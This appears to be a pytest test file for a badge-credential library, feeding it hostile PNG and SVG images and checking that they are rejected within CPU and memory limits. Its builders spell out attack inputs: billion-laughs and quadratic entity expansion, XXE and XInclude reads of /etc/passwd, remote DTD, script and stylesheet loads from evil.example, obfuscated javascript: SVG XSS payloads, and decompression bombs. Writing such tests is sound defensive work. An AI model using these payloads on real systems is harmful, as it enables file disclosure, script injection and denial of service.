"""Group G of the attack corpus: baked images."""

from __future__ import annotations

import base64
import gc
import hashlib
import subprocess
import sys
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from functools import cache, partial
from typing import Any

import pytest
from tests.attacks import bases
from tests.attacks.corpus import Builder, Input, Variant, check, variants
from tests.fixtures import images
from tests.fixtures.images import (
    DTD,
    IDAT,
    IEND,
    SIGNATURE,
    assertion,
    chunk,
    credential,
    ihdr,
    itxt,
    png,
    svg,
    text,
    ztxt,
)

from eccoe_vc import AlreadyBakedError, CarrierError, bake, inspect, open_credential, policies, unbake
from eccoe_vc.carriers import bare

MIB = 1 << 20
TOKEN = "eyJhbGciOiJFZERTQSJ9.e30.AA"
OB2 = '{"@context":"https://w3id.org/openbadges/v2","type":"Assertion","id":"urn:x:1"}'


@cache
def di(name: str = "Soil Science") -> str:
    """The text of base ``di``."""
    return bases.text(bases.di(name=name))


def in_svg(prolog: str = "", more: str = "") -> Input:
    return Input(svg(credential(di()) + more, prolog=prolog))


def declared(encoding: str) -> Input:
    return in_svg(f'<?xml version="1.0" encoding="{encoding}"?>')


def subset(declarations: str, use: str = "") -> Input:
    return in_svg(f"<!DOCTYPE svg [{declarations}]>", f"<text>{use}</text>")


def laughs() -> Input:
    made = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return subset(f'<!ENTITY l0 "ha">{made}', "&l9;")


def chain() -> Input:
    made = "".join(f'<!ENTITY e{n} "&e{n - 1};">' for n in range(1, 100_000))
    return subset(f'<!ENTITY e0 "x">{made}', "&e99999;")


def bound(picture: bytes, said: bytes, **digest: str) -> Input:
    """``picture`` with a badge whose achievement names an image, for which a digest of ``said`` is given."""
    tree = bases.unsigned()
    url = "https://north.example/soil.png"
    tree["credentialSubject"]["achievement"]["image"] = {"id": url, "type": "Image"}
    sri = "sha256-" + base64.b64encode(hashlib.sha256(said).digest()).decode()
    # The class of the image stands at both places: what is said about a related resource is said at its own place.
    tree["relatedResource"] = {"id": url, "type": "Image", **(digest or {"digestSRI": sri})}
    return Input(bake(bases.text(bases.signed(tree)), picture))


BUILDERS: dict[str, Builder] = {
    "G01-two": lambda: [
        Input(png(itxt(di()), itxt(di("Water Science")))),
        Input(png(itxt(di()), after=(itxt(di("Water Science")),))),
        Input(svg(credential(di()) + credential(di("Water Science")))),
    ],
    "G01-same": lambda: [Input(png(itxt(di()), itxt(di()))), Input(svg(credential(di()) * 2))],
    "G01-itxt-text": lambda: Input(png(itxt(di()), text(di("Water Science").encode()))),
    "G02-ob2-ob3": lambda: [
        Input(png(itxt(OB2, b"openbadges"), itxt(di()))),
        Input(svg(assertion(OB2) + credential(di()))),
    ],
    "G03-bomb": lambda: Input(png(itxt(b" " * (200 * MIB), compressed=True))),
    "G03-many": lambda: Input(png(itxt(b" " * (MIB - 1), compressed=True) * 1000)),
    "G05-text": lambda: [Input(png(text(di().encode()))), Input(png(ztxt(di().encode())))],
    "G05-space": lambda: [
        Input(png(itxt(di(), keyword)))
        for keyword in (
            b"openbadgecredential ",
            b" openbadgecredential",
            b"OpenBadgeCredential",
            b"OPENBADGECREDENTIAL",
        )
    ],
    "G05-long": lambda: Input(png(itxt(di(), b"openbadgecredential".ljust(80, b" ")))),
    "G05-exif": lambda: [
        Input(png(chunk(b"eXIf", b"MM\0*" + TOKEN.encode()))),
        Input(png(itxt(f"<x>{TOKEN}</x>", b"XML:com.adobe.xmp"))),
    ],
    "G06-crc": lambda: Input(png(itxt(di())).replace(ihdr()[-4:], b"\0\0\0\0", 1)),
    "G06-length": lambda: Input(SIGNATURE + ihdr() + b"\xff\xff\xff\xff" + itxt(di())[4:] + IDAT + IEND),
    "G06-eof": lambda: Input(SIGNATURE + ihdr() + (len(di()) + 100).to_bytes(4) + itxt(di())[4:]),
    "G06-no-ihdr": lambda: Input(SIGNATURE + itxt(di()) + IDAT),
    "G06-after": lambda: [
        Input(png(itxt(di())) + itxt(di())),
        Input(png() + itxt(di())),
        Input(png(itxt(di())) + b"\n"),
    ],
    "G06-many": lambda: Input(SIGNATURE + ihdr() + chunk(b"teXt") * 1_000_000 + itxt(di()) + IDAT + IEND),
    "G06-order": lambda: Input(SIGNATURE + ihdr() + IDAT + IEND + itxt(di())),
    "G06-signature": lambda: [
        Input(png(itxt(di())).replace(b"\r\n", b"\n")),
        Input(png(itxt(di())).replace(b"\n", b"\r\n")),
    ],
    "G07-ihdr": lambda: Input(png(itxt(di()), head=ihdr(100_000, 100_000))),
    "G07-zero": lambda: Input(png(itxt(di()), head=ihdr(0, 1))),
    "G08-latin1": lambda: Input(png(itxt(di("Gr\xfcn").encode("latin-1")))),
    "G08-utf16": lambda: [Input(png(itxt(di().encode(name)))) for name in ("utf-16", "utf-16-le", "utf-16-be")],
    "G08-bom": lambda: Input(png(itxt("\ufeff" + di()))),
    "G13-laughs": laughs,
    "G13-quadratic": lambda: subset(f'<!ENTITY a "{"a" * 10_000}">', "&a;" * 10_000),
    "G13-xxe": lambda: subset('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "G13-parameter": lambda: [
        subset('<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;'),
        in_svg('<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd" [<!ENTITY % p "x">]>'),
        in_svg('<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">', "<text>&x;</text>"),
    ],
    "G13-external-dtd": lambda: [in_svg('<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'), in_svg(DTD)],
    "G13-xinclude": lambda: in_svg(
        "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "G13-stylesheet": lambda: in_svg('<?xml-stylesheet href="https://evil.example/x.css"?>'),
    "G13-utf7": lambda: [
        declared("UTF-7"),
        declared("ebcdic-cp-us"),
        Input(svg(credential(di()), prolog='<?xml version="1.0" encoding="cp037"?>').decode().encode("cp037")),
    ],
    "G13-chain": chain,
    "G19-digest": lambda: [
        bound(png(), b"another picture"),
        bound(svg(), b"another picture"),
        bound(png(), b"", digestMultibase="uEiA" + "A" * 43),
    ],
    "G19-none": lambda: [Input(png(itxt(di()))), bound(png(), png()), bound(svg(), svg())],
}
#: Not through inspect(): bake() and unbake() below.
APART = {
    "G01-unbake", "G02-ask-ob2", "G03-ztxt",
    "G15-script", "G15-handler", "G15-entity-scheme", "G15-animate", "G15-set", "G15-use", "G15-import",
    "G15-foreign", "G15-image", "G15-handler-ns", "G16-use", "G16-pattern", "G16-cycle",
    "G18-again", "G18-replace", "G18-ob2", "G20-png", "G20-svg", "G20-pixels", "G20-jwt",
    "G21-namespace", "G21-product", "G21-references", "G21-style", "G22-comment",
}  # fmt: skip


def measured(work: Callable[[], Any]) -> tuple[Any, float, int]:
    """What ``work`` gives, its computing time in milliseconds, and its peak of Python memory."""
    begun = time.thread_time()
    found = work()
    spent = (time.thread_time() - begun) * 1000
    gc.collect()
    tracemalloc.start()
    work()
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return found, spent, peak


@pytest.mark.parametrize("variant", [v for v in variants("G") if v.id in BUILDERS], ids=str)
def test_attack(variant: Variant) -> None:
    built = BUILDERS[variant.id]()
    check(variant, built)
    limits = variant.expected.get("limits", variant.case["expected"].get("limits", {}))
    for one in built if isinstance(built, list) else [built]:
        report, spent, peak = measured(partial(inspect, one.data, policy=one.policy, at=one.at))
        assert spent < limits.get("cpu_ms", 1000) * 1.5
        assert peak < limits.get("peak_mib", 40) * MIB
        if variant.id.startswith("G05"):
            assert "chunk at byte 33" in report.check("carrier").hint
        if variant.id == "G19-none":
            assert "image.not_bound" not in {note.code for note in report.notes}


def test_the_untouched_fixtures_are_accepted() -> None:
    for image in (png(itxt(di())), svg(credential(di())), bake(di(), png()), bake(di(), svg())):
        report = inspect(image, policy=bases.policy(), at=bases.AT)
        assert report.verdict == "accepted", report.to_dict()
        assert not [note for note in report.notes if note.code.startswith("image.")]
    for image in (png(itxt(TOKEN)), svg(credential(verify=TOKEN))):
        report = inspect(image, policy=policies.proof_only(), at=bases.AT)
        assert report.verdict == "rejected"  # what is inside was signed by nobody; it is read as a token all the same
        assert report.check("carrier").outcome == "PASSED"
        assert next(report.problems()).code == "jose.typ"


@pytest.mark.attack("G01", "unbake")
def test_two_badges_are_not_unbaked() -> None:
    with pytest.raises(CarrierError) as caught:
        unbake(png(itxt(di()), itxt(di("Water Science"))))
    assert caught.value.code == "image.ambiguous"


@pytest.mark.attack("G02", "ask-ob2")
def test_open_badges_2_is_unbaked_when_asked_for() -> None:
    for image in (png(itxt(OB2, b"openbadges"), itxt(di())), svg(assertion(OB2) + credential(di()))):
        assert unbake(image, version=2).text == OB2
        assert unbake(image).text == di()


@pytest.mark.attack("G03", "ztxt")
def test_other_compressed_text_is_not_inflated(monkeypatch: pytest.MonkeyPatch) -> None:
    image = png(ztxt(bytes(200 * MIB), b"Comment"), itxt(bytes(200 * MIB), b"Comment", compressed=True), itxt(di()))
    inflated: list[object] = []
    monkeypatch.setattr(zlib, "decompressobj", lambda *given: inflated.append(given))
    monkeypatch.setattr(zlib, "decompress", lambda *given: inflated.append(given))
    envelope, spent, peak = measured(lambda: open_credential(image))
    assert envelope.text == di()
    assert inflated == []
    assert spent < 300
    assert peak < 40 * MIB


# ---- bake: active content --------------------------------------------------------------------------------------------

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
ACTIVE = {
    "script": ["<script>alert(1)</script>", '<script href="https://evil.example/x.js"/>'],
    "handler": ['<g onload="alert(1)"/>', '<g onmouseover="alert(1)"/>', '<rect ONCLICK="x"/>'],
    "entity-scheme": [
        '<a href="java&#10;script:alert(1)"/>',
        '<a href="java&#9;script:alert(1)"/>',
        '<a href="java&#13;script:alert(1)"/>',
        f'<a {XLINK} xlink:href="&#x20;javascript:alert(1)"/>',
        '<use href="java&#10;script:alert(1)"/>',
    ],
    "animate": ['<animate attributeName="href" values="javascript:alert(1)"/>', '<animateMotion path="M0 0"/>'],
    "set": ['<set attributeName="onmouseover" to="alert(1)"/>'],
    "use": [
        '<use href="https://evil.example/x.svg#a"/>',
        f'<use {XLINK} xlink:href="//evil.example/x.svg#a"/>',
        '<use href="x.svg#a"/>',
        '<use href="data:image/svg+xml,x#a"/>',
    ],
    "import": [
        "<style>@import url(https://evil.example/x.css)</style>",
        "<style>@\\69mport 'x.css'</style>",
        '<rect fill="url(https://evil.example/x.svg#a)"/>',
        '<rect style="fill:url(//evil.example/x.svg#a)"/>',
        '<rect filter="url(x.svg#a)"/>',
    ],
    "foreign": ['<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'],
    "image": [
        '<image href="https://track.example/"/>',
        '<image href="data:text/html,x"/>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
        f'<image {XLINK} xlink:href="http://track.example/"/>',
    ],
    "handler-ns": [
        f'<handler xmlns="{images.SVG_NS}">alert(1)</handler>',
        f'<a {XLINK} xlink:href="javascript:alert(1)"/>',
        '<x xmlns="https://evil.example/"/>',
        '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load"/>',
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml"/>',
    ],
}


def unsafe(shapes: str) -> None:
    for image in (svg(shapes), svg(shapes, prolog=DTD)):
        with pytest.raises(CarrierError) as caught:
            bake(TOKEN, image)
        assert caught.value.code == "image.unsafe_svg"


@pytest.mark.attack("G15", "script")
@pytest.mark.attack("G15", "handler")
@pytest.mark.attack("G15", "entity-scheme")
@pytest.mark.attack("G15", "animate")
@pytest.mark.attack("G15", "set")
@pytest.mark.attack("G15", "use")
@pytest.mark.attack("G15", "import")
@pytest.mark.attack("G15", "foreign")
@pytest.mark.attack("G15", "image")
@pytest.mark.attack("G15", "handler-ns")
@pytest.mark.parametrize("variant", variants("G15"), ids=str)
def test_active_content_is_not_baked(variant: Variant) -> None:
    for shapes in ACTIVE[variant.id.removeprefix("G15-")]:
        unsafe(shapes)


@pytest.mark.attack("G15", "entity-scheme")
def test_a_null_character_is_no_xml() -> None:
    with pytest.raises(CarrierError, match=r"image\.format"):
        bake(TOKEN, svg('<a href="java&#0;script:alert(1)"/>'))


def multiplying() -> Iterator[tuple[str, str]]:
    uses = "".join(f'<g id="u{n}">{f"<use href={chr(34)}#u{n - 1}{chr(34)}/>" * 10}</g>' for n in range(1, 10))
    yield "use", f'<defs><circle id="u0" r="1"/>{uses}</defs><use href="#u9"/>'
    tiles = "".join(f'<pattern id="p{n}"><rect fill="url(#p{n - 1})"/></pattern>' for n in range(1, 10))
    yield "pattern", f'<pattern id="p0"><circle r="1"/></pattern>{tiles}<rect fill="url(#p9)"/>'
    yield "pattern", '<filter id="f"><feTurbulence/></filter>' + '<g filter="url(#f)">' * 10 + "</g>" * 10
    yield "cycle", '<g id="a"><g><use href="#a"/></g></g>'
    yield "cycle", '<pattern id="a"><rect fill="url(#a)"/></pattern>'
    yield "cycle", '<mask id="a"><rect style="mask:url(#b)"/></mask><mask id="b"><rect mask="url(#a)"/></mask>'


@pytest.mark.attack("G16", "use")
@pytest.mark.attack("G16", "pattern")
@pytest.mark.attack("G16", "cycle")
@pytest.mark.parametrize(("name", "shapes"), [*multiplying()])
def test_multiplying_references_are_not_baked(name: str, shapes: str) -> None:
    assert f"G16-{name}" in {variant.id for variant in variants("G16")}
    unsafe(shapes)


# ---- bake: again, and the round trip ---------------------------------------------------------------------------------


@pytest.mark.attack("G18", "again")
def test_a_baked_image_is_not_baked_again() -> None:
    for image in (bake(TOKEN, png()), bake(di(), svg()), png(text(b"x"))):
        with pytest.raises(AlreadyBakedError) as caught:
            bake(di(), image)
        assert caught.value.code == "image.already_baked"


@pytest.mark.attack("G18", "replace")
def test_replacing_leaves_exactly_one_badge() -> None:
    for image in (png(), svg()):
        for old in (TOKEN, di()):
            baked = bake(di("Water Science"), bake(old, image), replace=True)
            assert unbake(baked).text == di("Water Science")
            assert baked == bake(di("Water Science"), image)


@pytest.mark.attack("G18", "ob2")
def test_a_badge_of_open_badges_2_stays_beside_it() -> None:
    for image in (png(itxt(OB2, b"openbadges")), svg(assertion(OB2))):
        baked = bake(di(), image)
        assert unbake(baked).text == di()
        assert unbake(baked, version=2).text == OB2


NAMES = [
    "]]>",
    "a ]]]]> b ]]",
    "&amp; & <b>",
    "\"quoted\" 'so'",
    "\U0001f393 \U0001f468\u200d\U0001f469",
    "\u2028\x7f\x85",
]


@pytest.mark.attack("G20", "png")
@pytest.mark.attack("G20", "svg")
@pytest.mark.attack("G20", "jwt")
@pytest.mark.parametrize("payload", [TOKEN, *map(di, NAMES)])
def test_the_round_trip_keeps_every_byte(payload: str) -> None:
    for image in (png(), svg(), svg(prolog=DTD)):
        baked = bake(payload, image)
        assert unbake(baked).text == payload
        assert bare(baked) == image
        if payload != TOKEN:
            assert inspect(baked, policy=bases.policy(), at=bases.AT).verdict == "accepted"


@pytest.mark.attack("G20", "jwt")
def test_a_token_stands_in_the_attribute() -> None:
    assert f'verify="{TOKEN}"'.encode() in bake(TOKEN, svg())
    assert b"CDATA" not in bake(TOKEN, svg())


@pytest.mark.attack("G20", "pixels")
def test_all_other_chunks_keep_bytes_and_order() -> None:
    image = png(chunk(b"gAMA", b"\0\1\2\3"), text(b"x", b"Comment"), after=(IDAT, ztxt(b"y", b"Comment")))
    before, after = list(images.chunks(image)), list(images.chunks(bake(di(), image)))
    after.remove((b"iTXt", b"openbadgecredential\0\0\0\0\0" + di().encode()))
    assert after == before


# ---- memory that Python does not count -------------------------------------------------------------------------------

CHILD = """
import resource, sys
from eccoe_vc import CarrierError, open_credential
from eccoe_vc.carriers import png, svg
data = sys.stdin.buffer.read()
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
used = int(status["VmSize"].split()[0]) << 10
resource.setrlimit(resource.RLIMIT_AS, (used + (40 << 20), resource.RLIM_INFINITY))
resource.setrlimit(resource.RLIMIT_CPU, (10, 10))
try:
    open_credential(data)
except CarrierError as error:
    print(error.code, end="")
"""


@pytest.mark.parametrize(
    "name",
    ["G03-bomb", "G03-many", "G06-length", "G06-many", "G13-laughs", "G13-quadratic", "G13-chain", "G13-xxe"],
)
def test_a_child_with_forty_mebibytes_answers_too(name: str) -> None:
    (variant,) = variants(name)
    built = BUILDERS[name]()
    assert isinstance(built, Input)
    ran = subprocess.run([sys.executable, "-c", CHILD], input=built.data, capture_output=True, timeout=60, check=False)
    assert ran.returncode == 0, ran.stderr.decode()
    assert ran.stdout.decode() in variant.expected["code"]
